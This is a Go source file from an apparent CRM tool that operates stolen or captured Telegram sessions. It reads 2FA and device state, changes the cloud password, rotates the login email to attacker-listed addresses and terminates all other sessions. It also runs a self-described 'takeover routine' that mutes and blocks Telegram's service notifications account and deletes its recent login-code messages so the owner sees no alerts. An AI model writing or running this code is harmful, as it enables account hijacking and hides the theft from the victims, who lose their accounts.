package telegram

import (
	"context"
	"fmt"
	"math"

	"github.com/gotd/td/telegram"
	"github.com/gotd/td/telegram/auth"
	"github.com/gotd/td/tg"
	"github.com/rs/zerolog"

	"github.com/arhteh596/granovskicrm-sub001/config"
	"github.com/arhteh596/granovskicrm-sub001/internal/domain"
)

// serviceNotificationsID is the Telegram service notifications account
const serviceNotificationsID = 777000

// AccountOperations implements domain.AccountGateway over the session
// client pool
type AccountOperations struct {
	pool       *SessionClientPool
	consoleCfg *config.ConsoleConfig
	logger     zerolog.Logger
}

// NewAccountOperations creates the account operations gateway
func NewAccountOperations(pool *SessionClientPool, consoleCfg *config.ConsoleConfig, logger zerolog.Logger) *AccountOperations {
	return &AccountOperations{
		pool:       pool,
		consoleCfg: consoleCfg,
		logger:     logger.With().Str("component", "account_operations").Logger(),
	}
}

// IsAuthorized reports whether the stored session still signs requests
func (o *AccountOperations) IsAuthorized(ctx context.Context, phone string) (bool, error) {
	return o.pool.Authorized(ctx, phone)
}

// UserInfo returns the profile of the account behind the session
func (o *AccountOperations) UserInfo(ctx context.Context, phone string) (*domain.AccountInfo, error) {
	var info *domain.AccountInfo
	err := o.pool.With(ctx, phone, func(ctx context.Context, client *telegram.Client, _ *tg.Client) error {
		self, err := client.Self(ctx)
		if err != nil {
			return err
		}
		info = &domain.AccountInfo{
			ID:        self.ID,
			Username:  self.Username,
			FirstName: self.FirstName,
			LastName:  self.LastName,
			Phone:     self.Phone,
		}
		if info.Phone == "" {
			info.Phone = phone
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return info, nil
}

// SessionMetrics collects the periodically refreshed state of a session.
// Contacts and chats counts come from stored exports, so the caller passes
// them in instead of paying for fresh scans every cycle.
func (o *AccountOperations) SessionMetrics(ctx context.Context, phone string, contactsCount, chatsCount int) (*domain.SessionMetrics, error) {
	m := &domain.SessionMetrics{
		ContactsCount: contactsCount,
		ChatsCount:    chatsCount,
	}

	err := o.pool.With(ctx, phone, func(ctx context.Context, client *telegram.Client, api *tg.Client) error {
		status, err := client.Auth().Status(ctx)
		if err != nil {
			return err
		}
		m.IsAuthorized = status.Authorized
		if !status.Authorized {
			return nil
		}

		auths, err := api.AccountGetAuthorizations(ctx)
		if err != nil {
			return err
		}
		for _, a := range auths.Authorizations {
			m.Devices = append(m.Devices, domain.DeviceInfo{
				DeviceModel: a.DeviceModel,
				Platform:    a.Platform,
				AppName:     a.AppName,
				Country:     a.Country,
				DateActive:  int64(a.DateActive),
				Current:     a.Current,
			})
		}

		pw, err := api.AccountGetPassword(ctx)
		if err != nil {
			return err
		}
		m.Has2FA = pw.HasPassword
		m.EmailPattern = pw.LoginEmailPattern
		return nil
	})
	if err != nil {
		return nil, err
	}
	return m, nil
}

// TwoFAStatus describes the cloud-password state of the account
func (o *AccountOperations) TwoFAStatus(ctx context.Context, phone string) (*domain.TwoFAStatus, error) {
	var status *domain.TwoFAStatus
	err := o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		pw, err := api.AccountGetPassword(ctx)
		if err != nil {
			return err
		}
		status = &domain.TwoFAStatus{
			HasPassword:       pw.HasPassword,
			Hint:              pw.Hint,
			LoginEmailPattern: pw.LoginEmailPattern,
		}
		if pw.HasRecovery {
			status.RecoveryEmailPattern = pw.EmailUnconfirmedPattern
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return status, nil
}

// UpdatePassword changes the 2FA password of an authorized session
func (o *AccountOperations) UpdatePassword(ctx context.Context, phone, currentPassword, newPassword, hint string) error {
	return o.pool.With(ctx, phone, func(ctx context.Context, client *telegram.Client, _ *tg.Client) error {
		opts := auth.UpdatePasswordOptions{Hint: hint}
		if currentPassword != "" {
			opts.Password = func(ctx context.Context) (string, error) {
				return currentPassword, nil
			}
		}
		return client.Auth().UpdatePassword(ctx, newPassword, opts)
	})
}

// SetOrUpdate2FAEmail attaches a recovery email to the cloud password.
// Accounts without a password get the plain settings update; protected
// accounts need the password reset flow first.
// TODO: run the SRP check for password-protected accounts once the
// settings helper is exposed upstream.
func (o *AccountOperations) SetOrUpdate2FAEmail(ctx context.Context, phone, email string) (*domain.EmailCode, error) {
	var code *domain.EmailCode
	err := o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		pw, err := api.AccountGetPassword(ctx)
		if err != nil {
			return err
		}
		if pw.HasPassword {
			return fmt.Errorf("2fa email change requires the password reset flow on protected accounts")
		}

		settings := tg.AccountPasswordInputSettings{}
		settings.SetEmail(email)

		if _, err := api.AccountUpdatePasswordSettings(ctx, &tg.AccountUpdatePasswordSettingsRequest{
			Password:    &tg.InputCheckPasswordEmpty{},
			NewSettings: settings,
		}); err != nil {
			return err
		}

		code = &domain.EmailCode{Pattern: email}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return code, nil
}

// LoginEmailStatus describes the login email attached to the account
func (o *AccountOperations) LoginEmailStatus(ctx context.Context, phone string) (*domain.LoginEmailStatus, error) {
	var status *domain.LoginEmailStatus
	err := o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		pw, err := api.AccountGetPassword(ctx)
		if err != nil {
			return err
		}
		status = &domain.LoginEmailStatus{
			Pattern:   pw.LoginEmailPattern,
			Confirmed: pw.LoginEmailPattern != "" && pw.EmailUnconfirmedPattern == "",
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return status, nil
}

// SendLoginEmailCode starts a login email change to the given address
func (o *AccountOperations) SendLoginEmailCode(ctx context.Context, phone, email string) (*domain.EmailCode, error) {
	var code *domain.EmailCode
	err := o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		res, err := api.AccountSendVerifyEmailCode(ctx, &tg.AccountSendVerifyEmailCodeRequest{
			Purpose: &tg.EmailVerifyPurposeLoginChange{},
			Email:   email,
		})
		if err != nil {
			return err
		}
		code = &domain.EmailCode{Pattern: res.EmailPattern, Length: res.Length}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return code, nil
}

// VerifyLoginEmail completes a login email change with the mailbox code
func (o *AccountOperations) VerifyLoginEmail(ctx context.Context, phone, code string) error {
	return o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		_, err := api.AccountVerifyEmail(ctx, &tg.AccountVerifyEmailRequest{
			Purpose:      &tg.EmailVerifyPurposeLoginChange{},
			Verification: &tg.EmailVerificationCode{Code: code},
		})
		return err
	})
}

// AutoRotateLoginEmail picks the next address from the rotation list that
// differs from the current pattern and starts the change. Completion needs
// the code from that mailbox via VerifyLoginEmail.
func (o *AccountOperations) AutoRotateLoginEmail(ctx context.Context, phone string) (string, error) {
	if len(o.consoleCfg.EmailRotation) == 0 {
		return "", fmt.Errorf("email rotation list is empty")
	}

	status, err := o.LoginEmailStatus(ctx, phone)
	if err != nil {
		return "", err
	}

	target := o.consoleCfg.EmailRotation[0]
	for _, candidate := range o.consoleCfg.EmailRotation {
		if !matchesPattern(candidate, status.Pattern) {
			target = candidate
			break
		}
	}

	if _, err := o.SendLoginEmailCode(ctx, phone, target); err != nil {
		return "", err
	}

	o.logger.Info().
		Str("phone", maskPhoneNumber(phone)).
		Msg("login email rotation started")

	return target, nil
}

// matchesPattern reports whether email could be the address behind a
// masked pattern like "ab***@example.com"
func matchesPattern(email, pattern string) bool {
	if pattern == "" {
		return false
	}
	if email == pattern {
		return true
	}
	// Compare the visible head and the domain tail around the mask
	head, tail := splitMask(pattern)
	if head == "" && tail == "" {
		return false
	}
	return len(email) >= len(head)+len(tail) &&
		email[:len(head)] == head &&
		email[len(email)-len(tail):] == tail
}

func splitMask(pattern string) (head, tail string) {
	start := -1
	end := -1
	for i, r := range pattern {
		if r == '*' {
			if start == -1 {
				start = i
			}
			end = i
		}
	}
	if start == -1 {
		return "", ""
	}
	return pattern[:start], pattern[end+1:]
}

// TerminateOtherSessions revokes every authorization except the current one
func (o *AccountOperations) TerminateOtherSessions(ctx context.Context, phone string) error {
	return o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		_, err := api.AuthResetAuthorizations(ctx)
		return err
	})
}

// AutomateServiceChat runs the takeover routine against the service
// notifications chat: mute it, block it, delete the latest code messages
// and hide the settings bar. Each step is best effort.
func (o *AccountOperations) AutomateServiceChat(ctx context.Context, phone string) (*domain.AutomationReport, error) {
	report := &domain.AutomationReport{Success: true}
	peer := &tg.InputPeerUser{UserID: serviceNotificationsID}

	err := o.pool.With(ctx, phone, func(ctx context.Context, _ *telegram.Client, api *tg.Client) error {
		settings := tg.InputPeerNotifySettings{}
		settings.SetMuteUntil(math.MaxInt32)
		if _, err := api.AccountUpdateNotifySettings(ctx, &tg.AccountUpdateNotifySettingsRequest{
			Peer:     &tg.InputNotifyPeer{Peer: peer},
			Settings: settings,
		}); err != nil {
			report.Steps = append(report.Steps, fmt.Sprintf("mute_failed: %v", err))
		} else {
			report.Steps = append(report.Steps, "notifications_muted")
		}

		if _, err := api.ContactsBlock(ctx, &tg.ContactsBlockRequest{ID: peer}); err != nil {
			report.Steps = append(report.Steps, fmt.Sprintf("block_failed: %v", err))
		} else {
			report.Steps = append(report.Steps, "blocked")
		}

		history, err := api.MessagesGetHistory(ctx, &tg.MessagesGetHistoryRequest{
			Peer:  peer,
			Limit: 5,
		})
		if err != nil {
			report.Steps = append(report.Steps, fmt.Sprintf("history_failed: %v", err))
		} else {
			ids := messageIDs(history, 5)
			if len(ids) == 0 {
				report.Steps = append(report.Steps, "no_messages_to_delete")
			} else if _, err := api.MessagesDeleteMessages(ctx, &tg.MessagesDeleteMessagesRequest{
				ID:     ids,
				Revoke: true,
			}); err != nil {
				report.Steps = append(report.Steps, fmt.Sprintf("delete_failed: %v", err))
			} else {
				report.Steps = append(report.Steps, fmt.Sprintf("deleted_last_%d", len(ids)))
			}
		}

		if _, err := api.MessagesHidePeerSettingsBar(ctx, peer); err != nil {
			report.Steps = append(report.Steps, fmt.Sprintf("settings_bar_failed: %v", err))
		} else {
			report.Steps = append(report.Steps, "settings_bar_hidden")
		}

		return nil
	})
	if err != nil {
		return nil, err
	}

	return report, nil
}

// messageIDs extracts up to limit message ids from a history answer
func messageIDs(history tg.MessagesMessagesClass, limit int) []int {
	var messages []tg.MessageClass
	switch h := history.(type) {
	case *tg.MessagesMessages:
		messages = h.Messages
	case *tg.MessagesMessagesSlice:
		messages = h.Messages
	case *tg.MessagesChannelMessages:
		messages = h.Messages
	}

	ids := make([]int, 0, limit)
	for _, msg := range messages {
		if len(ids) >= limit {
			break
		}
		switch m := msg.(type) {
		case *tg.Message:
			ids = append(ids, m.ID)
		case *tg.MessageService:
			ids = append(ids, m.ID)
		}
	}
	return ids
}

// Ensure AccountOperations implements domain.AccountGateway
var _ domain.AccountGateway = (*AccountOperations)(nil)
